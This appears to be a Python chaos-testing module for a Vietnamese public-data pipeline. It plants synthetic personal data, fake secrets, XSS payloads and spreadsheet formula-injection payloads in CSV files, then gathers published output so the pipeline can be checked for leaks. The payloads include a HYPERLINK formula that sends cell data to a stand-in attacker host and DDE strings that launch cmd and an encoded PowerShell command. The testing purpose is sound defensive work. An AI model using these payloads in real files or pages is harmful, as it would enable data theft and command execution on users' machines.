"""Group 3 as data: what an attacker (or a careless export) plants in the departments'
files before the workspace's first run, and how the campaign looks for it afterwards.

* personal data (12-digit citizen IDs, phones as +84/0 with spaces or dots, e-mails,
  Vietnamese full names) in every free-text column of the CSV datasets — notes, names,
  summaries, addresses, service and parking-lot names, published or not;
* spreadsheet formulas (``=``, ``+``, ``-``, ``@``, tab and CR prefixes, a DDE payload) in
  the published free-text columns;
* HTML/JS in a published column (the portal) and in a failing cell (the steward report);
* secrets in the environment of every run (``SECRETS``), which no log or report may hold.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from ddss.data_contracts import source_contract
from ddss.ingest.readers import header_of, normalise_header
from ddss.settings import Settings

PERSONAL = {
    "citizen_id": ["001203004567", "079195008812"],
    "phone_plus84_spaced": ["+84 912 345 678"],
    "phone_dotted": ["0987.654.321"],
    "phone_plain": ["0356781234"],
    "email": ["nguyen.van.chaos@example.vn"],
    "full_name": ["Nguyễn Thị Hồng Nhung", "Trần Văn Khải"],
}
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "dde": "=cmd|'/c powershell -e aQBlAHgA'!A1",
}
SCRIPT = "<script>window.__chaos_pwned=1</script>"
IMG = '<img src=x onerror="window.__chaos_pwned=1">'
SVG = '"><svg onload="window.__chaos_pwned=1">'
HTML_PAYLOADS = [SCRIPT, IMG, SVG]
SECRETS = {
    "DDSS_SMTP_PASSWORD": "chaos-smtp-Pa55word-7f3a",
    "AIRFLOW__CORE__FERNET_KEY": "chaos-fernet-Zm9vYmFyYmF6cXV4",
    "DDSS_CHAOS_API_TOKEN": "chaos-token-9c1d2e3f",
}

# (dataset, file in landing, free-text columns to plant personal data in, published
# free-text columns for formulas and HTML).
TARGETS = [
    (
        "admin_procedure_dossiers",
        "tuyen_quang_pasc/ho_so_2022-04.csv",
        ["note", "applicant_name"],
        [],
    ),
    ("electronic_health_records", "hanoi_health/ho_so_suc_khoe_2022-04.csv", ["note"], []),
    (
        "land_registration_payments",
        "hanoi_monre/dang_ky_dat_dai_2022-04.csv",
        ["parcel_address"],
        [],
    ),
    # A published column: the publisher's scan must hold the dataset back.
    ("e_documents", "tuyen_quang_office/van_ban_2021.csv", ["summary"], []),
    # Formulas and HTML go where no personal data is, so that they are published.
    ("cashless_parking_payments", "hanoi_transport/trong_giu_xe_2022-04.csv", [], ["lot_name"]),
    ("online_public_services", "tuyen_quang_pasc/dich_vu_cong_2022-07.csv", [], ["service_name"]),
]
# A row whose ward code is HTML: it fails validation, so the steward report shows it.
HTML_IN_FAILING_CELL = ("cashless_parking_payments", "ward_code")


def personal_values() -> set[str]:
    return {value for values in PERSONAL.values() for value in values}


def search_forms(value: str) -> set[str]:
    """What a planted value may look like once published: as written, its digits alone,
    and a +84 phone's national form (0 + the rest)."""
    forms = {value}
    digits = re.sub(r"\D", "", value)
    if len(digits) >= 9:
        forms.add(digits)
        if value.startswith("+84"):
            forms.add("0" + digits[2:])
    return forms


def _plain(text: str, encoding: str) -> str:
    """Text the file's encoding can hold (Windows-1258 files get the ASCII values only)."""
    try:
        text.encode(encoding)
    except UnicodeEncodeError:
        return ""
    return text


def _plant_file(
    cfg: Settings, dataset: str, name: str, personal: list[str], published: list[str]
) -> None:
    contract = source_contract(dataset, cfg)
    path = cfg.landing_dir / name
    encoding = "utf-8-sig" if contract.source.encoding == "utf-8" else contract.source.encoding
    delimiter = contract.source.delimiter or ","
    text = path.read_bytes().decode(encoding)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    header = rows[0]
    positions = {normalise_header(cell): i for i, cell in enumerate(header)}
    index = {c.name: positions[normalise_header(header_of(c))] for c in contract.columns}
    values = [v for kind in PERSONAL.values() for v in kind]
    row = 1
    for column in personal:
        for value in values:
            if row >= len(rows):
                break
            encoding_ = contract.source.encoding
            planted = _plain(f"Liên hệ {value} để bổ sung", encoding_) or _plain(value, encoding_)
            if planted:
                rows[row][index[column]] = planted
                row += 1
    for column in published:
        for payload in [*FORMULAS.values(), *HTML_PAYLOADS]:
            if row >= len(rows):
                break
            rows[row][index[column]] = payload
            row += 1
    if dataset == HTML_IN_FAILING_CELL[0] and row < len(rows):
        rows[row][index[HTML_IN_FAILING_CELL[1]]] = IMG
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes(out.getvalue().encode(encoding))


def plant(cfg: Settings) -> None:
    """Plant the attacks into the landing files before the workspace's first run."""
    for dataset, name, personal, published in TARGETS:
        _plant_file(cfg, dataset, name, personal, published)


def public_texts(public: Path) -> dict[str, str]:
    """Every file under ``public/`` as text: Parquet as its rows, JSON with its escapes
    decoded, other files as UTF-8 (what cannot be decoded is dropped)."""
    import json

    import duckdb

    texts = {}
    for path in sorted(public.rglob("*")):
        if not path.is_file() or path.is_symlink():
            continue
        rel = str(path.relative_to(public))
        if path.suffix == ".parquet":
            with duckdb.connect() as con:
                rows = con.execute("select * from read_parquet(?)", [str(path)]).fetchall()
            texts[rel] = "\n".join("\t".join("" if v is None else str(v) for v in r) for r in rows)
            continue
        text = path.read_bytes().decode("utf-8", errors="ignore")
        if path.suffix in {".json", ".jsonld"} or path.name.endswith(".json"):
            try:
                text = json.dumps(json.loads(text), ensure_ascii=False)
            except ValueError:
                pass
        texts[rel] = text
    return texts
